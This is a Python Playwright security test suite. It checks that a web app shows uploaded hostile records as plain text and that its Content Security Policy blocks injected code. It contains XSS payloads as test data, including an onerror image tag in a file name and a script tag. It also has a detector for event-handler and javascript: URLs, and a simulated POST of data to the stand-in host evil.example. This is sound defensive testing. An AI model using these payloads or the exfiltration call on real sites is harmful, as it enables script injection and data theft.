"""Nothing from a pasted record can run, and the policy that says so holds."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect

from tests.browser.hostile import MARKUP, hostile
from tests.browser.visit import EXAMINATION, Visit

pytestmark = pytest.mark.browser

_FOREIGN = """() => {
  const loads = /^(src|href|action|formaction|xlink:href|background|poster|srcdoc)$/i
    , runs = /^\\s*(javascript|data|vbscript):/i;
  const tags = "script, img, iframe, object, embed, base, style, form, foreignObject, frame, audio, video";
  const foreign = (element) => [...element.attributes].some(({ name, value }) =>
    /^on/i.test(name) || (loads.test(name) && (runs.test(value) || /evil/.test(value))))
    || element.matches(tags) && !(element.src ?? "").startsWith(`${location.origin}/sandbox/assets/`);
  return [...document.querySelectorAll("body, body *")].filter(foreign)
    .map((element) => element.outerHTML.slice(0, 300));
}"""


def test_a_hostile_record_is_shown_as_the_text_that_it_is(visit: Visit) -> None:
    page = visit.open()
    before = [*visit.cards().evaluate_all("(cards) => cards.map((card) => card.dataset.topic)")]
    text = hostile(visit.edited())
    visit.upload("<img src=x onerror=alert(1)>.json", text.encode())
    expect(page.locator("#request")).to_have_value(text)
    visit.resend()
    visit.open_all()

    assert page.evaluate("[window.pwned, {}.pwned, [].pwned]") == [None] * 3
    assert page.evaluate(_FOREIGN) == []
    assert visit.cards().evaluate_all("(cards) => cards.map((card) => card.dataset.topic)") == before
    # it did come through, and stands there to be read
    assert MARKUP in json.dumps(visit.answer(), ensure_ascii=False).replace('\\\\"', '"').replace('\\"', '"')
    assert visit.wire(EXAMINATION).ok
    for place in ("#ignored", "#messages pre >> nth=1"):
        assert "<script>window.pwned=1</script>" in (page.locator(place).text_content() or ""), place
    assert page.locator("#course svg").count() == 1
    visit.keep("hostile")


def test_what_is_no_request_at_all_is_said_as_text(visit: Visit) -> None:
    page = visit.open()
    visit.upload("scan.pdf", b"%PDF-1.7 " + MARKUP.encode())
    expect(page.locator("#error")).to_be_visible()
    assert page.evaluate("window.pwned") is None
    assert page.evaluate(_FOREIGN) == []


def test_the_policy_stops_what_gets_in_all_the_same(visit: Visit) -> None:
    page = visit.open()
    visit.expects("policy: script-src")
    visit.expects("policy: img-src https://evil.example")
    visit.expects("policy: connect-src https://evil.example")
    visit.expects("policy: style-src")
    visit.expects("console: .*Content Security Policy")
    page.evaluate("""async () => {
        const script = document.createElement("script");
        script.textContent = "window.pwned = 1";
        document.body.append(script);
        document.body.setAttribute("onclick", "window.pwned = 1");
        document.body.click();
        document.body.setAttribute("style", "display: none");
        const image = new Image();
        image.src = "https://evil.example/x.png";
        const failed = new Promise((resolve) => image.addEventListener("error", resolve));
        await fetch("https://evil.example/", { method: "POST", body: "record" }).catch(() => {});
        await failed;
    }""")
    assert page.evaluate("window.pwned") is None
    expect(page.locator("body")).to_be_visible()
